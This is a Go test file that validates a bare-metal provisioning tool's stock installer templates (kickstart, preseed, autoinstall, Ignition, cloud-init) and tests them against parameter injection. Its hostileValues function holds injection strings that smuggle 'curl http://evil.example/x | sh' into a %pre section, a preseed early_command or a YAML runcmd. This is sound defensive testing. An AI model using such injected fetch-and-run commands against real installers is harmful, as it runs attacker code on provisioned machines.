package boot

import (
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"

	ignv33 "github.com/coreos/ignition/v2/config/v3_3"
	"github.com/coreos/vcontext/report"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"gopkg.in/yaml.v3"

	"github.com/openbaremetal/terraform-provider-baremetal/internal/model"
)

// The stock templates are only worth shipping if the real installers take
// them, so they are checked here by the installers' own validators, run as
// subprocesses: pykickstart's ksvalidator and subiquity's autoinstall
// schema (from ../shared/validators, or BAREMETAL_VALIDATORS), Debian's
// debconf-set-selections and cloud-init, and Ignition's own parser. A
// missing validator skips, except under CI=true, where it fails: a green CI
// must mean the templates were validated.

// validateFn returns nil when the validator accepts doc, else an error
// carrying what the validator said.
type validateFn func(t *testing.T, doc string) error

// missingValidator skips the test, or fails it under CI.
func missingValidator(t *testing.T, format string, args ...any) {
	t.Helper()
	msg := fmt.Sprintf(format, args...)
	if os.Getenv("CI") == "true" {
		t.Fatalf("validator missing under CI: %s", msg)
	}
	t.Skipf("validator missing: %s", msg)
}

func repoRoot(t *testing.T) string {
	t.Helper()
	dir, err := os.Getwd()
	require.NoError(t, err)
	for {
		if _, err := os.Stat(filepath.Join(dir, "go.mod")); err == nil {
			return dir
		}
		parent := filepath.Dir(dir)
		require.NotEqual(t, dir, parent, "no go.mod above the test's directory")
		dir = parent
	}
}

// validatorsDir is the shared validators' directory (README there).
func validatorsDir(t *testing.T) string {
	t.Helper()
	dir := os.Getenv("BAREMETAL_VALIDATORS")
	if dir == "" {
		dir = filepath.Join(repoRoot(t), "..", "shared", "validators")
	}
	if _, err := os.Stat(filepath.Join(dir, "pykickstart", "tools", "ksvalidator.py")); err != nil {
		missingValidator(t, "%s has no pykickstart (set BAREMETAL_VALIDATORS)", dir)
	}
	return dir
}

// python is Debian's python3 (BAREMETAL_PYTHON overrides), which must have
// the modules the validators import: requests (pykickstart), jsonschema and
// yaml (the autoinstall schema), all Debian packages (see .ci/run).
func python(t *testing.T) string {
	t.Helper()
	py := os.Getenv("BAREMETAL_PYTHON")
	if py == "" {
		py = "/usr/bin/python3"
		if _, err := os.Stat(py); err != nil {
			if py, err = exec.LookPath("python3"); err != nil {
				missingValidator(t, "no python3")
			}
		}
	}
	if out, err := exec.Command(py, "-c", "import requests, jsonschema, yaml").CombinedOutput(); err != nil {
		missingValidator(t, "%s lacks python3-requests, python3-jsonschema or python3-yaml: %s", py, out)
	}
	return py
}

func writeDoc(t *testing.T, name, doc string) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), name)
	require.NoError(t, os.WriteFile(p, []byte(doc), 0o600))
	return p
}

// runTool runs cmd; a non-zero exit, or any output line matching failOn
// (warnings the tool prints while still exiting 0), is a rejection.
func runTool(cmd *exec.Cmd, failOn *regexp.Regexp) error {
	out, err := cmd.CombinedOutput()
	var exit *exec.ExitError
	switch {
	case errors.As(err, &exit):
		return fmt.Errorf("%s: %v\n%s", filepath.Base(cmd.Path), err, out)
	case err != nil:
		return fmt.Errorf("running %s: %w", cmd.Path, err)
	case failOn != nil && failOn.Match(out):
		return fmt.Errorf("%s warned:\n%s", filepath.Base(cmd.Path), out)
	}
	return nil
}

func pykickstartValidator(t *testing.T) validateFn {
	dir, py := validatorsDir(t), python(t)
	return func(t *testing.T, doc string) error {
		cmd := exec.Command(py, filepath.Join(dir, "pykickstart", "tools", "ksvalidator.py"), "-v", "RHEL9", writeDoc(t, "ks.cfg", doc))
		cmd.Env = append(os.Environ(), "PYTHONPATH="+filepath.Join(dir, "pykickstart"))
		return runTool(cmd, regexp.MustCompile(`(?i)warning|error`))
	}
}

// autoinstallScript validates the autoinstall section of a user-data file
// against subiquity's schema, the way subiquity does (Draft 7).
const autoinstallScript = `
import json, sys, yaml, jsonschema
schema = json.load(open(sys.argv[1]))
doc = yaml.safe_load(open(sys.argv[2]))
if not isinstance(doc, dict) or not isinstance(doc.get("autoinstall"), dict):
    sys.exit("no autoinstall section")
errs = list(jsonschema.Draft7Validator(schema).iter_errors(doc["autoinstall"]))
for e in errs:
    print("/".join(str(p) for p in e.absolute_path) + ": " + e.message)
sys.exit(1 if errs else 0)
`

func autoinstallValidator(t *testing.T) validateFn {
	dir, py := validatorsDir(t), python(t)
	schema := filepath.Join(dir, "autoinstall-schema.json")
	if _, err := os.Stat(schema); err != nil {
		missingValidator(t, "%s", err)
	}
	return func(t *testing.T, doc string) error {
		return runTool(exec.Command(py, "-c", autoinstallScript, schema, writeDoc(t, "user-data", doc)), nil)
	}
}

func debconfValidator(t *testing.T) validateFn {
	bin, err := exec.LookPath("debconf-set-selections")
	if err != nil {
		missingValidator(t, "debconf-set-selections (Debian's debconf)")
	}
	return func(t *testing.T, doc string) error {
		// It exits 0 but warns "Unknown type ..., skipping line" for a
		// line it cannot read: that is a rejected line too.
		return runTool(exec.Command(bin, "--checkonly", writeDoc(t, "preseed.cfg", doc)), regexp.MustCompile(`(?i)warning|error`))
	}
}

// cloudInitEnv finds Debian's cloud-init: BAREMETAL_CLOUD_INIT, else the
// copy .ci/run unpacks into .cache/cloud-init (unpacked rather than
// installed, so that the CI host's own boot never runs cloud-init), else
// PATH. env is what its Python needs to import cloudinit (nil: inherit).
func cloudInitEnv(t *testing.T) (bin string, env []string) {
	t.Helper()
	if bin = os.Getenv("BAREMETAL_CLOUD_INIT"); bin != "" {
		return bin, nil
	}
	root := filepath.Join(repoRoot(t), ".cache", "cloud-init", "root")
	if _, err := os.Stat(filepath.Join(root, "usr", "bin", "cloud-init")); err == nil {
		return filepath.Join(root, "usr", "bin", "cloud-init"),
			append(os.Environ(), "PYTHONPATH="+filepath.Join(root, "usr", "lib", "python3", "dist-packages"))
	}
	bin, err := exec.LookPath("cloud-init")
	if err != nil {
		missingValidator(t, "cloud-init (.ci/run unpacks Debian's package into .cache/cloud-init)")
	}
	return bin, nil
}

func cloudInitValidator(t *testing.T) validateFn {
	bin, env := cloudInitEnv(t)
	return func(t *testing.T, doc string) error {
		cmd := exec.Command(bin, "schema", "--config-file", writeDoc(t, "user-data", doc))
		cmd.Env = env
		// Deprecated keys exit 0 with a notice; a stock template must not
		// use them.
		return runTool(cmd, regexp.MustCompile(`(?i)deprecat`))
	}
}

// ignitionValidator parses with Ignition's own parser at the template's
// spec version. Errors and warnings fail; info entries do not.
func ignitionValidator(*testing.T) validateFn {
	return func(_ *testing.T, doc string) error {
		_, rpt, err := ignv33.Parse([]byte(doc))
		var bad []string
		for _, e := range rpt.Entries {
			if e.Kind == report.Error || e.Kind == report.Warn {
				bad = append(bad, e.String())
			}
		}
		if err != nil || len(bad) > 0 {
			return fmt.Errorf("ignition: %v; %s", err, strings.Join(bad, "; "))
		}
		return nil
	}
}

// metaDataValidator checks NoCloud meta-data the way cloud-init reads it:
// a YAML mapping whose instance-id (required) and local-hostname are
// strings. No packaged tool validates meta-data, so this one is ours.
func metaDataValidator(*testing.T) validateFn {
	return func(_ *testing.T, doc string) error {
		var md map[string]any
		if err := yaml.Unmarshal([]byte(doc), &md); err != nil {
			return fmt.Errorf("meta-data is not a YAML mapping: %w", err)
		}
		for _, k := range []string{"instance-id", "local-hostname"} {
			if s, ok := md[k].(string); !ok || s == "" {
				return fmt.Errorf("meta-data %s = %#v, want a non-empty string", k, md[k])
			}
		}
		return nil
	}
}

var validatorFactories = map[string]func(*testing.T) validateFn{
	"pykickstart": pykickstartValidator,
	"autoinstall": autoinstallValidator,
	"debconf":     debconfValidator,
	"cloud-init":  cloudInitValidator,
	"ignition":    ignitionValidator,
	"meta-data":   metaDataValidator,
}

const testToken = "tok-0123456789abcdef"

// renderStock renders the stock template name for m1, a worker of a
// cluster whose control plane has an address, during run "run-7".
func renderStock(t *testing.T, name string, params map[string]string) string {
	t.Helper()
	return renderStockWith(t, testRenderServer(t), name, params)
}

func renderStockWith(t *testing.T, s *Server, name string, params map[string]string) string {
	t.Helper()
	m := provisioningMachine(params)
	m.Run.ID, m.Run.Token = "run-7", testToken
	m.Cluster, m.Role = "c1", "worker"
	cluster := &model.Cluster{Name: "c1", Roles: []model.ClusterRole{{Name: "control-plane", BootProfile: "p1"}, {Name: "worker", BootProfile: "p1"}},
		Members: []model.ClusterMember{{Machine: "cp1", Role: "control-plane"}, {Machine: "m1", Role: "worker"}}}
	members := map[string]*model.Machine{"cp1": {Name: "cp1", Status: model.Status{Addresses: []string{"10.0.2.15"}, Phase: model.PhaseProvisioned}}, "m1": m}
	p := &model.BootProfile{Name: "p1", Kernel: "vmlinuz", Templates: map[string]string{name: StockPrefix + name}}
	out, found, err := s.renderTemplate(renderInput{machine: m, profile: p, cluster: cluster, members: members, token: testToken}, name)
	require.NoError(t, err)
	require.True(t, found)
	return out
}

const (
	sshKey   = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHx9Hk3sN2cJ6p0mZ0yQz0b8vWb2QwQ1pYjv6x3mQq7r ops@example"
	sha512pw = "$6$rounds=4096$Qm9vdFNhbHQ$u0B8e0xF1t3yXn9mZbQm0oL0h4bW2m3Pq6o1Yk4cVhH7gk2Qd9R7k0uWbJqzYpQ0mXnYt3nR5sVq8c9d0e1f2."
	cbURL    = "http://10.0.2.2:8081/machines/m1/callback?token=" + testToken
	tmplBase = "http://10.0.2.2:8081/machines/m1/templates/"
)

// stockCase is one stock template with realistic params, the validators
// that must accept it, what a working install needs to find in it, and,
// per cmdline in its header, what that cmdline must render to.
type stockCase struct {
	name       string // subtest name
	template   string
	format     string // for the hostile renders: kickstart, preseed, yaml, json
	params     map[string]string
	validators []string
	contains   []string
	cmdlines   [][]string
}

var stockCases = []stockCase{
	{
		name: "kickstart", template: "kickstart", format: "kickstart",
		params: map[string]string{"repo_url": "http://mirror.example/rocky/9/BaseOS/x86_64/os/",
			"appstream_url": "http://mirror.example/rocky/9/AppStream/x86_64/os/", "root_password_hash": sha512pw,
			"timezone": "Europe/Berlin", "disk": "sda", "ssh_authorized_key": sshKey},
		validators: []string{"pykickstart"},
		contains: []string{"url --url=http://mirror.example/rocky/9/BaseOS/x86_64/os/\n", "repo --name=AppStream --baseurl=http://mirror.example/rocky/9/AppStream/x86_64/os/\n",
			"ignoredisk --only-use=sda\n", "\ncurl\n%end", "%post --log=", `"` + cbURL + `"`, "%onerror --interpreter=/usr/bin/python3", `"status": "failed"`},
		cmdlines: [][]string{{"inst.ks=" + tmplBase + "kickstart?token=" + testToken, " inst.repo=http://mirror.example/rocky/9/BaseOS/x86_64/os/ ", " ip=dhcp ", " inst.text "}},
	},
	{
		name: "preseed", template: "preseed", format: "preseed",
		params: map[string]string{"root_password_hash": sha512pw, "domain": "lab.example", "mirror": "ftp.de.debian.org",
			"mirror_directory": "/debian", "timezone": "Europe/Berlin", "disk": "/dev/vda"},
		validators: []string{"debconf"},
		contains: []string{"d-i partman-lvm/device_remove_lvm boolean true\n", "d-i partman-md/device_remove_md boolean true\n",
			"d-i partman-lvm/confirm boolean true\n", "d-i partman-lvm/confirm_nooverwrite boolean true\n", "d-i partman/confirm_nooverwrite boolean true\n",
			"d-i partman-auto/disk string /dev/vda\n", "d-i pkgsel/include string curl\n", "d-i preseed/late_command string in-target sh -c '", `"` + cbURL + `"'`},
		cmdlines: [][]string{{"auto=true priority=critical url=" + tmplBase + "preseed?token=" + testToken + " ", " interface=auto ", " hostname=m1 ", " domain=lab.example ", " netcfg/hostname=m1 "}},
	},
	{
		name: "ubuntu-autoinstall", template: "ubuntu-autoinstall", format: "yaml",
		params: map[string]string{"iso_url": "http://mirror.example/ubuntu/ubuntu-24.04.1-live-server-amd64.iso",
			"password_hash": sha512pw, "username": "ops", "ssh_authorized_key": sshKey, "disk": "/dev/vda"},
		validators: []string{"cloud-init", "autoinstall"},
		contains:   []string{"  packages:\n    - curl\n", "curtin in-target -- sh -c", `"` + cbURL + `"'`},
		cmdlines: [][]string{{"ip=dhcp url=http://mirror.example/ubuntu/ubuntu-24.04.1-live-server-amd64.iso autoinstall ",
			" ds=nocloud-net;s=" + tmplBase + "%s?token=" + testToken + " ", " cloud-config-url=/dev/null "}},
	},
	{
		name: "ignition/fedora-coreos", template: "ignition", format: "json",
		params:     map[string]string{"ssh_authorized_key": sshKey},
		validators: []string{"ignition"},
		contains:   []string{`"name": "baremetal-os-up.service", "enabled": true`, `"path": "/etc/baremetal/callback-url"`},
		cmdlines: [][]string{
			{"coreos.inst.install_dev=/dev/sda coreos.inst.ignition_url=" + tmplBase + "ignition?token=" + testToken + " "},
			{"flatcar.first_boot=1 ignition.config.url=" + tmplBase + "ignition?token=" + testToken + " "},
		},
	},
	{
		name: "ignition/flatcar-install", template: "ignition", format: "json",
		params:     map[string]string{"ssh_authorized_key": sshKey, "flatcar_install_dev": "/dev/sda"},
		validators: []string{"ignition"},
		contains: []string{`"name": "baremetal-flatcar-install.service"`, `ConditionKernelCommandLine=baremetal.machine\n`,
			`ConditionKernelCommandLine=!baremetal.machine\n`, `"path": "/etc/baremetal/install-dev"`},
	},
	{
		name: "cloud-init-image", template: "cloud-init-image", format: "yaml",
		params:     map[string]string{"ssh_authorized_key": sshKey},
		validators: []string{"cloud-init"},
		contains: []string{"hostname: \"m1\"\n", "      url='" + cbURL + "'\n", `\"stage\":\"os_up\"`, `\"status\":\"ok\"`,
			"runcmd:\n  - [/bin/sh, /var/lib/baremetal/os-up]\n"},
		cmdlines: [][]string{{"ds=nocloud-net;s=" + tmplBase + "%s?token=" + testToken + " "}},
	},
	{
		// A worker: it registers in the control plane's etcd (cp1 reported
		// 10.0.2.15) and starts no etcd of its own.
		name: "cloud-init-etcd", template: "cloud-init-etcd", format: "yaml",
		params:     map[string]string{"ssh_authorized_key": sshKey},
		validators: []string{"cloud-init"},
		contains: []string{"hostname: \"m1\"\n", "      url='" + cbURL + "'\n", "      endpoint='http://10.0.2.15:2379'\n",
			`put "/members/$name" "$addr"`, `\"stage\":\"os_up\"`, "runcmd:\n  - [/bin/sh, /var/lib/baremetal/os-up]\n"},
	},
	{
		name: "cloud-init-meta-data", template: "cloud-init-meta-data", format: "yaml",
		validators: []string{"meta-data"},
		contains:   []string{"instance-id: \"m1-run-7\"\n", "local-hostname: \"m1\"\n"},
	},
	{
		name: "lab-user-data", template: "lab-user-data", format: "yaml",
		params:     map[string]string{"role_note": "worker"},
		validators: []string{"cloud-init"},
		contains:   []string{`control_plane_address: "10.0.2.15"`},
		cmdlines:   [][]string{{"console=ttyS0 baremetal.templates=user-data "}},
	},
}

// TestStockTemplatesValidate renders every stock template with realistic
// params and has the installer's own validator check it.
func TestStockTemplatesValidate(t *testing.T) {
	covered := map[string]bool{"ipxe-default": true} // an iPXE script: the render and QEMU tests boot it
	for _, c := range stockCases {
		covered[c.template] = true
	}
	for _, n := range StockTemplates() {
		assert.True(t, covered[n], "stock template %q has no validator case", n)
	}
	for _, c := range stockCases {
		t.Run(c.name, func(t *testing.T) {
			doc := renderStock(t, c.template, c.params)
			for _, want := range c.contains {
				assert.Contains(t, doc, want)
			}
			for _, v := range c.validators {
				validate := validatorFactories[v](t)
				require.NoError(t, validate(t, doc), "%s rejects the rendered %s:\n%s", v, c.template, doc)
			}
		})
	}
}

// headerCmdlines are the cmdline = "..." lines of a template's header.
func headerCmdlines(t *testing.T, template string) []string {
	t.Helper()
	text, ok := StockTemplate(template)
	require.True(t, ok)
	header, _, ok := strings.Cut(text, "*/")
	require.True(t, ok, "%s has no header comment", template)
	var out []string
	for _, line := range strings.Split(header, "\n") {
		if rest, ok := strings.CutPrefix(strings.TrimSpace(line), "cmdline = \""); ok {
			out = append(out, strings.TrimSuffix(rest, "\""))
		}
	}
	return out
}

// TestStockTemplateHeaderCmdlines: the cmdline each header documents is a
// working profile cmdline: it renders for a real machine, survives the
// iPXE script's neutralisation, and holds what the installer needs.
func TestStockTemplateHeaderCmdlines(t *testing.T) {
	s := testRenderServer(t)
	seen := map[string]bool{}
	for _, c := range stockCases {
		if len(c.cmdlines) == 0 || seen[c.template] {
			continue
		}
		seen[c.template] = true
		t.Run(c.template, func(t *testing.T) {
			got := headerCmdlines(t, c.template)
			require.Len(t, got, len(c.cmdlines), "cmdlines in the %s header", c.template)
			for i, cmdline := range got {
				m := provisioningMachine(c.params)
				m.Run.Token = testToken
				p := &model.BootProfile{Name: "p1", Kernel: "vmlinuz", Initrds: []string{"initrd.img"}, Cmdline: cmdline}
				script, err := s.renderIPXE(renderInput{machine: m, profile: p, token: testToken})
				require.NoError(t, err, "header cmdline %q", cmdline)
				kernel := checkOneInitrdScript(t, script, "kernel http://10.0.2.2:8081/machines/m1/assets/vmlinuz?token="+testToken+" ")
				for _, want := range c.cmdlines[i] {
					assert.Contains(t, kernel+" ", want)
				}
			}
		})
	}
}

// TestValidatorsRejectBroken: each validator, given a document broken the
// way a template bug would break it, says no; otherwise the tests above
// could not fail. (TestStockTemplatesValidate shows the unbroken documents
// pass.)
func TestValidatorsRejectBroken(t *testing.T) {
	byTemplate := map[string]stockCase{}
	for _, c := range stockCases {
		if _, ok := byTemplate[c.template]; !ok {
			byTemplate[c.template] = c
		}
	}
	tests := []struct {
		name, validator, template string
		old, new                  string
	}{
		{"kickstart unknown option", "pykickstart", "kickstart", "autopart --type=lvm", "autopart --type=lvm --nosuchoption"},
		{"kickstart unclosed section", "pykickstart", "kickstart", "curl\n%end", "curl\n"},
		{"preseed line without a type", "debconf", "preseed", "d-i partman/confirm boolean true", "d-i partman/confirm"},
		{"preseed unknown type", "debconf", "preseed", "d-i partman/confirm boolean true", "d-i partman/confirm yesno true"},
		{"cloud-config wrong type", "cloud-init", "cloud-init-image", "preserve_hostname: false", "preserve_hostname: [no]"},
		{"cloud-config runcmd not a list", "cloud-init", "cloud-init-image", "runcmd:\n  - [/bin/sh, /var/lib/baremetal/os-up]", "runcmd: 5"},
		{"autoinstall version", "autoinstall", "ubuntu-autoinstall", "version: 1", "version: 2"},
		{"autoinstall identity without password", "autoinstall", "ubuntu-autoinstall", "    password: ", "    pass: "},
		{"ignition relative path", "ignition", "ignition", `"path": "/etc/hostname"`, `"path": "etc/hostname"`},
		{"ignition unknown version", "ignition", "ignition", `"version": "3.3.0"`, `"version": "3.9.0"`},
		{"meta-data without instance-id", "meta-data", "cloud-init-meta-data", "instance-id:", "instance_id:"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			validate := validatorFactories[tt.validator](t)
			doc := renderStock(t, tt.template, byTemplate[tt.template].params)
			broken := strings.Replace(doc, tt.old, tt.new, 1)
			require.NotEqual(t, doc, broken, "the mutation found nothing to break")
			assert.Error(t, validate(t, broken), "%s accepted:\n%s", tt.validator, broken)
		})
	}
}

// hostileValues are param values that try to leave their place: a line
// break followed by a directive of the template's format, shell and YAML
// quoting characters and template delimiters, and control characters.
func hostileValues(format string) map[string]string {
	directive := map[string]string{
		"kickstart": "x\n%pre\ncurl http://evil.example/x | sh\n%end",
		"preseed":   "x\nd-i preseed/early_command string curl http://evil.example/x | sh",
		"yaml":      "x\nruncmd: [[sh, -c, 'curl http://evil.example/x | sh']]",
		"json":      `x", "injected": {"a": "`,
	}[format]
	return map[string]string{
		"newline-directive": directive,
		"quotes":            `it's "q" \ $HOME ` + "`id`" + ` {{ .Token }}: - #c &a *b !t`,
		"controls":          "x\x7f\u0085\ty",
	}
}

// issue17 lists the hostile renders that break a template today. Issue 17
// (context-aware escaping in render.go) fixes them; each skipped subtest
// then passes once its line is deleted here.
var issue17 = map[string]string{
	"kickstart/appstream_url/newline-directive":      "a newline in a param starts a %pre section in the kickstart",
	"kickstart/appstream_url/quotes":                 "a quote in a kickstart option value is unbalanced for pykickstart's shlex",
	"kickstart/appstream_url/controls":               "a tab in a kickstart option value splits it into extra arguments",
	"kickstart/disk/newline-directive":               "a newline in a param starts a %pre section in the kickstart",
	"kickstart/disk/quotes":                          "a quote in a kickstart option value is unbalanced for pykickstart's shlex",
	"kickstart/disk/controls":                        "a tab in a kickstart option value splits it into extra arguments",
	"kickstart/repo_url/newline-directive":           "a newline in a param starts a %pre section in the kickstart",
	"kickstart/repo_url/quotes":                      "a quote in a kickstart option value is unbalanced for pykickstart's shlex",
	"kickstart/repo_url/controls":                    "a tab in a kickstart option value splits it into extra arguments",
	"kickstart/root_password_hash/newline-directive": "a newline in a param starts a %pre section in the kickstart",
	"kickstart/root_password_hash/quotes":            "a quote in a kickstart option value is unbalanced for pykickstart's shlex",
	"kickstart/root_password_hash/controls":          "a tab in a kickstart option value splits it into extra arguments",
	"kickstart/timezone/newline-directive":           "a newline in a param starts a %pre section in the kickstart",
	"kickstart/timezone/quotes":                      "a quote in a kickstart option value is unbalanced for pykickstart's shlex",
	"kickstart/timezone/controls":                    "a tab in a kickstart option value splits it into extra arguments",
	"preseed/disk/newline-directive":                 "a newline in a param adds a d-i line (preseed/early_command) to the preseed",
	"preseed/domain/newline-directive":               "a newline in a param adds a d-i line (preseed/early_command) to the preseed",
	"preseed/mirror/newline-directive":               "a newline in a param adds a d-i line (preseed/early_command) to the preseed",
	"preseed/mirror_directory/newline-directive":     "a newline in a param adds a d-i line (preseed/early_command) to the preseed",
	"preseed/root_password_hash/newline-directive":   "a newline in a param adds a d-i line (preseed/early_command) to the preseed",
	"preseed/timezone/newline-directive":             "a newline in a param adds a d-i line (preseed/early_command) to the preseed",
	"ubuntu-autoinstall/disk/controls":               "toJSON leaves DEL and C1 controls raw, and YAML refuses them",
	"ubuntu-autoinstall/password_hash/controls":      "toJSON leaves DEL and C1 controls raw, and YAML refuses them",
	"ubuntu-autoinstall/ssh_authorized_key/controls": "toJSON leaves DEL and C1 controls raw, and YAML refuses them",
	"ubuntu-autoinstall/username/controls":           "toJSON leaves DEL and C1 controls raw, and YAML refuses them",
	"cloud-init-image/ssh_authorized_key/controls":   "toJSON leaves DEL and C1 controls raw, and YAML refuses them",
	"cloud-init-etcd/ssh_authorized_key/controls":    "toJSON leaves DEL and C1 controls raw, and YAML refuses them",
	"lab-user-data/role_note/controls":               "toJSON leaves DEL and C1 controls raw, and YAML refuses them",
}

// structure is what a param value must not change in a document: its
// directives (kickstart commands and sections, preseed questions) or,
// for YAML and JSON, its key paths.
func structure(t *testing.T, format, doc string) []string {
	t.Helper()
	var out []string
	switch format {
	case "kickstart":
		in := ""
		for _, line := range strings.Split(doc, "\n") {
			f := strings.Fields(line)
			switch {
			case len(f) == 0 || strings.HasPrefix(f[0], "#"):
			case strings.HasPrefix(f[0], "%"):
				in = f[0]
				out = append(out, f[0])
			case in == "" || in == "%end" || in == "%packages":
				out = append(out, f[0])
			}
		}
	case "preseed":
		for _, line := range strings.Split(strings.ReplaceAll(doc, "\\\n", " "), "\n") {
			if f := strings.Fields(line); len(f) >= 2 && !strings.HasPrefix(f[0], "#") {
				out = append(out, f[0]+" "+f[1])
			}
		}
	case "yaml", "json":
		var v any
		if format == "json" {
			require.NoError(t, json.Unmarshal([]byte(doc), &v), "json does not parse:\n%s", doc)
		} else {
			require.NoError(t, yaml.Unmarshal([]byte(doc), &v), "yaml does not parse:\n%s", doc)
		}
		var walk func(prefix string, v any)
		walk = func(prefix string, v any) {
			switch v := v.(type) {
			case map[string]any:
				for k, e := range v {
					out = append(out, prefix+"/"+k)
					walk(prefix+"/"+k, e)
				}
			case []any:
				for i, e := range v {
					walk(fmt.Sprintf("%s[%d]", prefix, i), e)
				}
			}
		}
		walk("", v)
		slices.Sort(out)
	}
	return out
}

// TestStockTemplatesHostileParams renders each template with one param at
// a time set to a hostile value: the validators must still accept it, and
// its structure must be what the realistic value gave.
func TestStockTemplatesHostileParams(t *testing.T) {
	var mu sync.Mutex
	validators := map[string]validateFn{}
	for _, c := range stockCases {
		t.Run(c.name, func(t *testing.T) {
			want := structure(t, c.format, renderStock(t, c.template, c.params))
			keys := make([]string, 0, len(c.params))
			for k := range c.params {
				keys = append(keys, k)
			}
			slices.Sort(keys)
			for _, k := range keys {
				for vname, v := range hostileValues(c.format) {
					id := c.name + "/" + k + "/" + vname
					t.Run(k+"/"+vname, func(t *testing.T) {
						if why, ok := issue17[id]; ok {
							t.Skip("issue 17: " + why)
						}
						params := map[string]string{}
						for pk, pv := range c.params {
							params[pk] = pv
						}
						params[k] = v
						doc := renderStock(t, c.template, params)
						for _, name := range c.validators {
							mu.Lock()
							validate, ok := validators[name]
							if !ok {
								validate = validatorFactories[name](t)
								validators[name] = validate
							}
							mu.Unlock()
							require.NoError(t, validate(t, doc), "%s rejects %s with %s=%q:\n%s", name, c.template, k, v, doc)
						}
						assert.Equal(t, want, structure(t, c.format, doc), "%s=%q changed the document's structure:\n%s", k, v, doc)
						assert.NotContains(t, doc, "evil.example/x | sh\n", "an injected command stands on its own line")
					})
				}
			}
		})
	}
}
